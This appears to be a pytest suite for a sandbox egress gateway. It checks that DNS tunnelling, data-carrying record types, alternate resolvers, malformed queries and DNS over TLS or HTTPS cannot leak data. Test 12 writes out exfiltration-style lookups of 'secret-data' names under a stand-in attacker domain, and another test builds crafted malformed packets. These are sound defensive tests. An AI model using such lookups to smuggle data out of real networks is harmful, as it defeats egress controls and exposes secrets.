"""Attacks 12 to 16: names as a way out, and names that are no names."""

from __future__ import annotations

import socket
import struct
import time
from collections.abc import Callable
from typing import TYPE_CHECKING

import pytest

from egress_gateway import GatewayProcess
from egress_world import OTHER, SITE, World
from kennel.gateway import dns_message as dns

if TYPE_CHECKING:
    from egress_fixtures import Desk

pytest_plugins = ["egress_fixtures"]
pytestmark = pytest.mark.root


def test_12_data_in_the_labels_of_a_denied_name_leaves_in_no_packet(desk: Desk) -> None:
    desk.policy(default="deny")
    with desk.world.capture() as packets:
        for number in range(20):
            assert desk.box.address_of(f"secret-data-{number}.attacker.example.com").startswith("198.1")
        answer = desk.box.fetch("http://secret-data-1.attacker.example.com/")
    assert answer.code == "egress_denied"
    assert packets == []
    assert desk.world.resolver.asked == []


def test_13_an_allowed_wildcard_is_looked_up_only_when_something_is_sent(desk: Desk) -> None:
    desk.world.serve(SITE, 80)
    desk.world.resolver.names["data.good.example.com"] = [SITE]
    desk.policy({"ruleKey": "good", "verdict": "allow", "match": {"hosts": ["*.good.example.com"]}}, default="deny")
    with desk.world.capture() as packets:
        desk.box.ask("data.good.example.com")
        with desk.box.connect("data.good.example.com", 80) as link:
            time.sleep(0.1)
            link.sendall(b"GET / HTT")
            time.sleep(0.1)
    assert packets == []
    assert desk.box.fetch("http://data.good.example.com/").status == 200
    assert ("data.good.example.com", dns.A) in desk.world.resolver.asked


def test_14_record_types_that_carry_data_stay_here_unless_a_rule_opens_them(desk: Desk) -> None:
    text = b"\x05hello"
    desk.world.resolver.records["txt.good.example.com", dns.TXT] = [(dns.TXT, 600, text)]
    service = struct.pack(">3H", 1, 2, 443) + dns.encode_name("host.good.example.com")
    desk.world.resolver.records["_db._tcp.good.example.com", dns.SRV] = [(dns.SRV, 600, service)]
    for kind in (dns.TXT, dns.SRV, dns.MX, dns.CNAME, dns.HTTPS, dns.SVCB, dns.NS, 6, 257):
        found = desk.box.ask("txt.good.example.com", kind)
        assert (found[3] & 15, int.from_bytes(found[6:8], "big")) == (0, 0), kind
    assert desk.world.resolver.asked == []
    desk.policy(
        {"ruleKey": "no", "verdict": "deny", "match": {"hosts": ["evil.good.example.com"]}},
        {"ruleKey": "srv", "verdict": "allow", "dns": True, "match": {"hosts": ["*.good.example.com"]}},
    )
    found = dns.parse_answer(desk.box.ask("txt.good.example.com", dns.TXT), 7, "txt.good.example.com", dns.TXT)
    assert found.records == [(dns.TXT, 60, text)]
    name = "_db._tcp.good.example.com"
    assert dns.parse_answer(desk.box.ask(name, dns.SRV), 7, name, dns.SRV).records == [(dns.SRV, 60, service)]
    desk.box.ask("evil.good.example.com", dns.TXT)
    desk.box.ask("txt.good.example.com", dns.HTTPS)
    assert {kind for _, kind in desk.world.resolver.asked} == {dns.TXT, dns.SRV}
    assert desk.decision(layer="dns", host="txt.good.example.com").verdict == "allow"


def test_15_any_server_tcp_edns_and_malformed_questions(desk: Desk) -> None:
    box, name = desk.box, "any.example.com"
    first = box.address_of(name)
    for server in ("8.8.8.8", "1.1.1.1", "198.18.0.1", "2606:4700:4700::1111"):
        assert str(dns.parse_answer(box.ask(name, server=server), 7, name, dns.A).addresses[0]) == first
    question = dns.query(9, name, dns.A)
    with box.connect("8.8.8.8", 53) as link:
        for _ in range(2):
            link.sendall(len(question).to_bytes(2, "big") + question)
            size = int.from_bytes(link.recv(2, socket.MSG_WAITALL), "big")
            assert str(dns.parse_answer(link.recv(size, socket.MSG_WAITALL), 9, name, dns.A).addresses[0]) == first
    edns = question[:10] + b"\0\1" + question[12:] + b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0)
    assert str(dns.parse_answer(box.ask_raw(edns), 9, name, dns.A).addresses[0]) == first
    assert int.from_bytes(box.ask(name, dns.ANY)[6:8], "big") == 0
    assert box.ask(name, dns.AAAA)[3] & 15 == 0
    reverse = ".".join(reversed(first.split("."))) + ".in-addr.arpa"
    assert dns.encode_name(name) in box.ask(reverse, dns.PTR)
    for bad in (
        question[:12] + b"\xc0\x0c" + question[-4:],
        question[:12] + b"\x40" + b"a" * 64 + b"\0" + question[-4:],
        question[:12] + b"\x01" * 3,
        question[:5] + b"\x02" + question[6:],
        question[:12] + b"\x03a b\0" + question[-4:],
        question[:12] + b"".join(b"\x3f" + b"a" * 63 for _ in range(4)) + b"\0" + question[-4:],
    ):
        assert box.ask_raw(bad)[3] & 15 == dns.FORMERR, bad
    for silent in (b"", b"x", b"\0" * 11, question[:2] + b"\x81" + question[3:]):
        with pytest.raises(TimeoutError):
            box.ask_raw(silent, timeout=0.2)
    for local in ("localhost", "printer", "x.local", "metadata.google.com", "db.internal"):
        assert box.ask(local)[3] & 15 == dns.NXDOMAIN, local


def test_15_names_and_questions_are_bounded(world: World, start: Callable[..., GatewayProcess]) -> None:
    own = start(max_names=50, questions_per_second=60.0)
    own.control.policy()
    box = own.sandbox("asksalot1")
    codes = [box.ask(f"n{number}.example.com")[3] & 15 for number in range(60)]
    assert codes.count(0) == 50
    assert codes[50:] == [dns.SERVFAIL] * 10
    # Over the rate, questions wait instead of being lost.
    begun = time.monotonic()
    with box.inside(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as link:
        link.settimeout(5)
        for number in range(90):
            link.sendto(dns.query(number, "n1.example.com", dns.A), ("198.18.0.1", 53))
        answers = [link.recv(512) for _ in range(90)]
    assert len(answers) == 90
    assert time.monotonic() - begun > 0.4


def test_16_dns_over_tls_is_no_http_and_over_https_is_policy(desk: Desk) -> None:
    resolver = desk.world.site("dns.example.com", port=853, address=OTHER)
    secure = desk.world.site("doh.example.com")
    desk.policy({"ruleKey": "no-doh", "verdict": "deny", "match": {"hosts": ["doh.example.com"]}})
    with desk.box.tls("dns.example.com", 853) as link:
        link.sendall(b"\0\x1d" + dns.query(1, "leak.example.com", dns.A))
        answer = link.recv(65536)
    assert b"403" not in answer.split(b"\r\n")[0]
    assert answer.startswith(b"HTTP/1.1 400")
    assert desk.box.fetch("https://doh.example.com/dns-query?dns=AAAB").code == "egress_denied"
    assert resolver.requests == secure.requests == []
